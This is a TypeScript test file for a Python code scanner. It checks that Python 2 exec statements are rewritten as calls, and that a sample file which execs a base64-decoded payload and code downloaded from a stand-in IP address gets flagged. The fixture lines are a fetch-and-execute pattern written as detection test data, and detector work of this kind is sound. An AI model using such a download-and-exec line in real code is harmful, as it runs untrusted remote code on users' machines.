// Python 2 code read with Python 2's meaning where it matters: exec statements run what they are given.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { initAnalysis } from '../../src/analysis/api.ts';
import { execStatementsAsCalls } from '../../src/analysis/python2.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';

before(() => initAnalysis());

test('exec statements become the exec() calls they make, in place, strings and comments kept', () => {
  assert.equal(
    execStatementsAsCalls('import x\nexec x.y("a # b") in g, l  # run it\n    exec code\nexec(code)\nexec = 1\n'),
    'import x\nexec(x.y("a # b"), g, l)  # run it\n    exec(code)\nexec(code)\nexec = 1\n',
  );
  assert.equal(execStatementsAsCalls('exec(code)\nexecute = exec\n'), undefined, 'Python 3 code is left alone');
  assert.equal(execStatementsAsCalls('exec compile(\n  src, "f", "exec")\n'), undefined, 'a statement that goes on');
});

test('a Python 2 exec statement of a decoded or downloaded payload is found like an exec() call', () => {
  const source = [
    'import base64, urllib2',
    'exec base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQo=")',
    'exec urllib2.urlopen("http://198.51.100.7/x").read()',
    'print "done"',
  ].join('\n');
  const [report] = analyzePythonFile('demo/__init__.py', new TextEncoder().encode(source));
  const rules = report.findings.map((f) => `${f.rule}@${f.line}`);
  assert.ok(rules.includes('exec-decoded-payload@2'), rules.join(' '));
  assert.ok(rules.includes('download-execute@3'), rules.join(' '));
  assert.ok(report.findings.find((f) => f.line === 3)?.code.startsWith('exec urllib2'), 'the line as written');
});
